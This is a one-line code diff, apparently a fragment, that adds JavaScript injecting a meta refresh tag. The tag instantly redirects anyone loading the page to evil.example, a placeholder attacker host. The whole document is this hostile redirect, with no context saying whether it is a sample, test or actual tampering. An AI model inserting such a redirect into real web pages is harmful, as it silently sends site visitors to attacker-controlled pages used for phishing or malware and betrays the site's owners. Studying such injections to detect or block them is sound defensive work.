@@ -1,0 +1,1 @@
+document.write('<meta http-equiv="refresh" content="0; url=https://evil.example/r">');
